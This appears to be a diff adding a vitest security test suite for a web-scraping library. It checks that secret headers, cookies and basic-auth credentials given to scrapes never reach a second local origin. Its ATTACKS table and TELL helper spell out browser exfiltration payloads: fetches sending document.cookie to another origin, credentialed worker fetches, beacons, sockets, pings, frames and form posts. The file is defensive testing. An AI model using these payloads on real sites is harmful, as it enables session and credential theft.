@@ -1,0 +1,250 @@
+import { createServer, type IncomingMessage, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import {
+  type Browser,
+  definePaginationStrategy,
+  HarvestmanError,
+  type RecipeInput,
+  type ScrapeOptions,
+  type SettingsInput,
+  scrape,
+} from '@harvestman/core';
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import * as z from 'zod/mini';
+import { testBrowser } from '../test-browser.ts';
+
+/** What a page does to have the recipe's secrets sent to another origin of its host, by the address of that. */
+type Attack = (other: string) => string;
+
+const SECRETS = {
+  headers: { 'X-Token': 'token-secret' },
+  cookies: [
+    { name: 'session', value: 'cookie-secret' },
+    { name: 'wide', value: 'wide-secret', domain: 'localhost' },
+  ],
+  basicAuth: { username: 'user', password: 'password-secret' },
+} as const satisfies SettingsInput;
+const LEAK = /secret|Basic/;
+
+const servers: Server[] = [];
+const pages = new Map<string, string>();
+let browser: Browser;
+let own: string;
+let other: string;
+let leaks: string[];
+let asked: string[];
+let given: IncomingMessage[];
+
+async function listen(heard: (request: IncomingMessage, body: string) => unknown): Promise<string> {
+  const server = createServer(async (request, response) => {
+    let body = '';
+    for await (const chunk of request) body += chunk;
+    heard(request, body);
+    const url = new URL(request.url ?? '/', `http://${request.headers.host}`);
+    response.setHeader('access-control-allow-origin', request.headers.origin ?? '*');
+    response.setHeader('access-control-allow-credentials', 'true');
+    response.setHeader('access-control-allow-headers', '*, x-token, authorization');
+    if (url.pathname === '/to-other')
+      return void response.writeHead(307, { location: `${other}/landed` }).end();
+    if (url.pathname.endsWith('.js')) response.setHeader('content-type', 'text/javascript');
+    else response.setHeader('content-type', 'text/html');
+    const page = pages.get(url.href);
+    response.writeHead(page === undefined ? 404 : 200).end(page);
+  });
+  server.on('upgrade', (request, socket) => {
+    heard(request, '');
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
+  servers.push(server);
+  return `http://localhost:${(server.address() as AddressInfo).port}`;
+}
+
+beforeAll(async () => {
+  browser = testBrowser();
+  own = await listen((request) => given.push(request));
+  other = await listen((request, body) => {
+    asked.push(request.url ?? '');
+    const said = JSON.stringify([request.rawHeaders, request.url, body]);
+    if (LEAK.test(decodeURIComponent(said))) leaks.push(said);
+  });
+});
+beforeEach(() => {
+  pages.clear();
+  leaks = [];
+  asked = [];
+  given = [];
+});
+afterAll(async () => {
+  await browser.close();
+  for (const server of servers) {
+    server.closeAllConnections();
+    server.close();
+  }
+});
+
+const recipe = (url: string, settings: SettingsInput): RecipeInput => ({
+  name: 'attack',
+  url,
+  listSelector: 'li',
+  properties: [{ name: 'text' }],
+  pagination: { type: 'next-button', nextPageSelector: '.next', maxPages: 3 },
+  settings: { ...SECRETS, retries: 1, pageTimeoutMs: 10_000, block: [], ...settings },
+});
+
+async function read(
+  url: string,
+  settings: SettingsInput,
+  change: Partial<RecipeInput> = {},
+  plugins: Pick<ScrapeOptions, 'paginationStrategies'> = {},
+): Promise<unknown[]> {
+  const rows: unknown[] = [];
+  const options = { browser, allowPrivateNetworks: true, ...plugins };
+  for await (const { text } of scrape({ ...recipe(url, settings), ...change }, options)) rows.push(text);
+  return rows;
+}
+
+const BUTTON = `<button class=next onclick="document.querySelector('ul').innerHTML = '<li>third'; this.remove()">next</button>`;
+
+/** A page of the other origin that tells it all the cookies that it sees. */
+const TELL = (): string =>
+  script(`fetch('${other}/told?' + encodeURIComponent(document.cookie), { credentials: 'include' })`);
+
+describe('another origin that a job comes to, static page or browser, is not the own one', () => {
+  test('by a link to a page whose control needs the browser', async () => {
+    pages.set(`${own}/`, `<ul><li>first</ul><a class=next href="${other}/list">next</a>`);
+    pages.set(`${other}/list`, `<ul><li>second</ul>${BUTTON}`);
+    expect(await read(`${own}/`, { rendering: 'auto' })).toEqual(['first', 'second', 'third']);
+    expect(asked.filter((path) => path === '/list').length).toBe(2);
+    expect(leaks).toEqual([]);
+  });
+
+  test('by a redirect to a page whose control needs the browser', async () => {
+    pages.set(`${other}/landed`, `<ul><li>first</ul>${BUTTON}`);
+    expect(await read(`${own}/to-other`, { rendering: 'auto' })).toEqual(['first', 'third']);
+    expect(leaks).toEqual([]);
+  });
+
+  test('by a redirect to a page whose list needs the browser', async () => {
+    pages.set(
+      `${other}/landed`,
+      `<ul></ul><script>document.querySelector('ul').innerHTML = '<li>' + (document.cookie || 'none')</script>`,
+    );
+    expect(await read(`${own}/to-other`, { rendering: 'auto' })).toEqual(['none']);
+    expect(leaks).toEqual([]);
+  });
+
+  test('by a link back and forth, and the own one gets its secrets again', async () => {
+    pages.set(`${own}/`, `<ul><li>first</ul><a class=next href="${other}/list">next</a>`);
+    pages.set(`${other}/list`, `<ul><li>second</ul><a class=next href="${own}/back">next</a>`);
+    pages.set(
+      `${own}/back`,
+      `<ul></ul><script>document.querySelector('ul').innerHTML = '<li>' + document.cookie</script>`,
+    );
+    const rows = await read(`${own}/`, { rendering: 'browser' });
+    expect(rows.slice(0, 2)).toEqual(['first', 'second']);
+    expect(rows[2]).toContain('session=cookie-secret');
+    expect(leaks).toEqual([]);
+  });
+
+  test('in a job that resumes there after a crash', async () => {
+    pages.set(`${own}/`, `<ul><li>first</ul><a class=next href="${other}/list">next</a>`);
+    pages.set(`${other}/list`, `<ul><li>second</ul>${BUTTON}`);
+    let crashes = 1;
+    const crashing = definePaginationStrategy({
+      type: 'crashing',
+      schema: z.object({}),
+      async advance(page, _options, context) {
+        if (context.pages === 2 && crashes-- > 0) throw new HarvestmanError('PAGE_CRASHED', 'by the test');
+        return (await page.click('.next')) === 'new-items' ? 'advanced' : 'no-next-control';
+      },
+    });
+    const pagination = { type: 'crashing', maxPages: 3 };
+    const options = { paginationStrategies: [crashing] };
+    const rows = await read(`${own}/`, { rendering: 'auto' }, { pagination }, options);
+    expect([rows, crashes]).toEqual([['first', 'second', 'third'], -1]);
+    expect(leaks).toEqual([]);
+  });
+
+  test('in a window that a click opens', async () => {
+    pages.set(`${other}/window`, TELL());
+    pages.set(
+      `${own}/`,
+      `<ul><li>first</ul><button class=next onclick="window.open('${other}/window'); document.querySelector('ul').innerHTML = '<li>second'">`,
+    );
+    const rows = await read(`${own}/`, { rendering: 'browser' });
+    expect(rows.slice(0, 2)).toEqual(['first', 'second']);
+    expect(leaks).toEqual([]);
+  });
+});
+
+const settle =
+  '<ul></ul><script>setTimeout(() => { document.querySelector("ul").innerHTML = "<li>done" }, 700)</script>';
+const ATTACKS: Readonly<Record<string, Attack>> = {
+  'a dedicated worker': (other) =>
+    script(
+      `new Worker(URL.createObjectURL(new Blob(["fetch('${other}/worker', { credentials: 'include' })"])))`,
+    ),
+  'a worker that follows a redirect': () =>
+    script(
+      `new Worker(URL.createObjectURL(new Blob(["fetch('${own}/to-other', { credentials: 'include' })"])))`,
+    ),
+  'a worker of a worker': (other) =>
+    script(
+      `new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([\\"fetch('${other}/worker', { credentials: 'include' })\\"])))"])))`,
+    ),
+  'a shared worker': (other) =>
+    script(
+      `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${other}/worker', { credentials: 'include' })"])))`,
+    ),
+  'a socket': (other) => script(`new WebSocket('${other.replace('http', 'ws')}/socket')`),
+  'an event stream': (other) => script(`new EventSource('${other}/stream', { withCredentials: true })`),
+  'a beacon': (other) => script(`navigator.sendBeacon('${other}/beacon', document.title)`),
+  'a kept fetch': (other) => script(`fetch('${other}/kept', { keepalive: true, credentials: 'include' })`),
+  'a fetch that is redirected': () => script(`fetch('${own}/to-other', { credentials: 'include' })`),
+  'a request that is redirected': () =>
+    script(
+      `const r = new XMLHttpRequest(); r.open('POST', '/to-other'); r.withCredentials = true; r.send('x')`,
+    ),
+  'a frame whose script reads its cookies': (other) => `<iframe src="${other}/reads"></iframe>`,
+  'a frame that is redirected': () => `<iframe src="/to-other"></iframe>`,
+  'a frame of another site': (other) =>
+    `<iframe src="${other.replace('localhost', '127.0.0.1')}/nested"></iframe>`,
+  'a form in a frame': (other) =>
+    `<iframe name=f></iframe><form target=f method=post action="${other}/form"></form>${script('document.forms[0].submit()')}`,
+  'a form that is redirected': () =>
+    `<iframe name=f></iframe><form target=f method=post action="/to-other"></form>${script('document.forms[0].submit()')}`,
+  'a ping': (other) => `<a id=p href="#x" ping="${other}/ping">x</a>${script('p.click()')}`,
+  'a prefetch and a style': (other) =>
+    `<link rel=prefetch href="${other}/prefetch"><link rel=preload as=fetch href="${own}/to-other" crossorigin=use-credentials><style>@import "${other}/style"; @font-face { font-family: x; src: url(/to-other) } p { font-family: x; background: url(/to-other) }</style><p>x`,
+  'an image, a video, an object': () =>
+    `<img src=/to-other><video src=/to-other></video><object data=/to-other></object><embed src=/to-other>`,
+  'a module': () => `<script type=module src=/to-other></script>`,
+  'a frame that opens itself again': (other) =>
+    `<iframe srcdoc="<script>location = '${other}/reads'</script>"></iframe>`,
+};
+
+function script(text: string): string {
+  return `<script>${text}</script>`;
+}
+
+test.each(Object.entries(ATTACKS))('%s gives another origin of the host nothing', async (_name, attack) => {
+  for (const path of ['/reads', '/landed']) pages.set(other + path, TELL());
+  pages.set(`${other.replace('localhost', '127.0.0.1')}/nested`, `<iframe src="${other}/reads"></iframe>`);
+  pages.set(`${own}/`, settle + attack(other));
+  expect(await read(`${own}/`, { rendering: 'browser' })).toEqual(['done']);
+  expect(asked).not.toEqual([]);
+  expect(leaks).toEqual([]);
+});
+
+test('a worker of the own origin gets them there', async () => {
+  const worker = `fetch('${own}/data', { credentials: 'include' }).then(() => postMessage(1))`;
+  pages.set(
+    `${own}/`,
+    `<ul></ul>${script(`new Worker(URL.createObjectURL(new Blob([\`${worker}\`]))).onmessage = () => { document.querySelector('ul').innerHTML = '<li>heard' }`)}`,
+  );
+  expect(await read(`${own}/`, { rendering: 'browser' })).toEqual(['heard']);
+  const data = given.find(({ url }) => url === '/data');
+  expect(data?.headers['x-token']).toBe('token-secret');
+  expect(data?.headers.cookie).toBe('session=cookie-secret; wide=wide-secret');
+});
